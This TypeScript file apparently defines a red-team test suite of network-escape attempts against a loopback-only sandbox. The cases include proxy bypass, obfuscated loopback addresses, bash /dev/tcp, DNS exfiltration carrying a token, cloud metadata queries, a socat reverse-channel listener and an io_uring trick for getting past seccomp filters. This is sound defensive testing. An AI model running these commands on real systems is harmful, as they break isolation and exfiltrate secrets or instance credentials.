/**
 * Network routes out of a sandbox that has no interface but loopback: every one must fail.
 * The host runs a TCP+UDP canary service on 0.0.0.0, a unix socket and an abstract socket;
 * the runner counts what reached them.
 */
import type { AttackCase } from '../types.js';
import { pyCase, sb } from './helpers.js';

const curlTo = (url: string, extra = ''): string => `curl -s --max-time 3 ${extra} "${url}" && echo "$RT_MARK ${url}"; true`;

/** Network and proxy-bypass cases. */
export const NETWORK_CASES: readonly AttackCase[] = [
  sb('net-tcp-loopback', 'network', 'TCP to a service on host loopback', curlTo('http://127.0.0.1:$RT_TCP_PORT/')),
  sb('net-tcp-noproxy', 'network', 'ignore proxy variables (curl --noproxy "*")', curlTo('http://127.0.0.1:$RT_TCP_PORT/', "--noproxy '*'")),
  sb('net-tcp-localhost-name', 'network', 'the host service by name (localhost, trailing dot)', `${curlTo('http://localhost:$RT_TCP_PORT/')}; ${curlTo('http://localhost.:$RT_TCP_PORT/')}`),
  sb('net-tcp-ip-spellings', 'network', 'loopback written as decimal, octal, hex, short form and 0.0.0.0', ['2130706433', '0177.0.0.1', '0x7f.0.0.1', '0x7f000001', '127.1', '0.0.0.0', '127.0.0.2'].map((h) => curlTo(`http://${h}:$RT_TCP_PORT/`)).join('\n')),
  sb('net-tcp-ipv6', 'network', 'IPv6 loopback and IPv4-mapped IPv6', ['[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::]'].map((h) => curlTo(`http://${h}:$RT_TCP_PORT/`, '-g')).join('\n')),
  sb('net-tcp-host-ip', 'network', "the host's own non-loopback address", `[ -n "$RT_HOST_IP" ] && ${curlTo('http://$RT_HOST_IP:$RT_TCP_PORT/')}`),
  sb('net-bash-dev-tcp', 'network', "bash's /dev/tcp (no curl, no proxy variables)", `bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$RT_TCP_PORT"' && head -c 200 <&3 && echo '"$RT_MARK"' dev-tcp' 2>/dev/null; true`),
  pyCase('net-python-socket', 'network', 'a raw Python TCP connect to every host address', `for h in ['127.0.0.1', os.environ.get('RT_HOST_IP') or '127.0.0.1', '::1']:
    try:
        s = socket.create_connection((h, int(os.environ['RT_TCP_PORT'])), timeout=2)
        print(s.recv(200)); esc('tcp ' + h)
    except OSError as e: print('refused', h, e)`),
  sb('net-perl-socket', 'network', 'Perl IO::Socket::INET', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:$ENV{RT_TCP_PORT}",Timeout=>2) or exit 1; print <$s>; print "RT-ESCAPED-$ENV{RT_TOKEN} perl\\n"' 2>/dev/null; true`),
  sb('net-udp', 'network', 'UDP datagrams to a host service (bash /dev/udp, socat)', `bash -c 'echo rt > /dev/udp/127.0.0.1/'"$RT_UDP_PORT" 2>/dev/null; echo rt | socat -T1 - UDP:127.0.0.1:"$RT_UDP_PORT" 2>/dev/null; [ -n "$RT_HOST_IP" ] && echo rt | socat -T1 - UDP:"$RT_HOST_IP":"$RT_UDP_PORT" 2>/dev/null; true`),
  pyCase('net-dns', 'network', 'DNS lookups as an exfiltration channel (getaddrinfo, direct UDP/53 to resolv.conf servers)', `for n in ['example.com', 'rt-' + os.environ['RT_TOKEN'] + '.example.com']:
    try:
        print(socket.getaddrinfo(n, 80)); esc('resolved ' + n)
    except OSError as e: print('no dns', e)
try:
    ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]
except OSError: ns = []
for n in ns + ['8.8.8.8', '1.1.1.1']:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try:
        s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', (n, 53))
        print(s.recv(512)); esc('dns answer from ' + n)
    except OSError as e: print('no answer', n, e)`),
  pyCase('net-raw-icmp', 'network', 'raw and packet sockets (ICMP ping, AF_PACKET sniffing)', `for fam, typ, proto, what in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, 'raw icmp'), (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, 'ping socket to host'), (17, socket.SOCK_RAW, 0x0300, 'AF_PACKET')]:
    try:
        s = socket.socket(fam, typ, proto)
        if what == 'ping socket to host':
            s.settimeout(1); s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 0)); print(s.recv(100)); esc(what)
        elif what == 'AF_PACKET': esc(what)
        else: esc(what)
    except OSError as e: print('refused', what, e)`),
  sb('net-interfaces', 'network', 'any interface but loopback, or a default route', `awk 'NR>2 {sub(":","",$1); if ($1 != "lo") print "RT-ESCAPED-" ENVIRON["RT_TOKEN"], "iface", $1}' /proc/net/dev
grep -v '^Iface' /proc/net/route 2>/dev/null | grep -q . && echo "$RT_MARK route table"; true`),
  sb('net-proc-net-tcp', 'network', "the host's listening sockets through /proc/net/tcp (netns leak)", `p=$(printf '%04X' "$RT_TCP_PORT"); grep -qi ":$p " /proc/net/tcp /proc/net/tcp6 2>/dev/null && echo "$RT_MARK host listener visible"; true`),
  sb('net-create-iface', 'network', 'create interfaces or change routes (netlink)', 'ip link add rt0 type dummy 2>/dev/null && echo "$RT_MARK ip link add"; ip route add default dev lo 2>/dev/null && echo "$RT_MARK ip route"; true'),
  pyCase('net-vsock', 'network', 'AF_VSOCK to the host (CID 2) and other address families', `for fam, addr, what in [(40, (2, 22), 'vsock host'), (40, (1, 22), 'vsock local')]:
    try:
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(1); s.connect(addr); esc(what)
    except (OSError, AttributeError) as e: print('refused', what, e)
for fam in [31, 29, 38]:  # bluetooth, CAN, AF_ALG
    try: socket.socket(fam, socket.SOCK_RAW if fam != 38 else socket.SOCK_SEQPACKET); print('opened family', fam)
    except OSError as e: print('refused', fam, e)`),
  sb('net-metadata', 'network', 'cloud metadata endpoints directly', `${curlTo('http://169.254.169.254/latest/meta-data/')}; ${curlTo('http://[fd00:ec2::254]/', '-g')}; ${curlTo('http://metadata.google.internal/')}`),
  sb('net-proxy-env-ignore', 'network', 'reach the internet without the proxy (HTTPS, HTTP, any port)', `${curlTo('https://example.com/', "--noproxy '*'")}; ${curlTo('http://1.1.1.1/', "--noproxy '*'")}; env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY curl -s --max-time 3 http://example.com/ && echo "$RT_MARK no proxy env"; true`),
  sb('net-bind-listen', 'network', 'listen on 0.0.0.0 to be reached from the host (reverse channel)', `socat -T3 TCP-LISTEN:$RT_TCP_PORT,reuseaddr,fork SYSTEM:'echo RT-ESCAPED-'"$RT_TOKEN"' reverse' 2>/dev/null & sleep 1; kill %1 2>/dev/null; true`),
  pyCase('net-io-uring-connect', 'network', 'connect through io_uring (bypasses seccomp socket filters on some sandboxes)', `r, e = sc(425, 8, ctypes.addressof((ctypes.c_ubyte * 120)()))
if r >= 0: esc('io_uring_setup fd %d' % r)
else: print('io_uring refused errno', e)`),
];
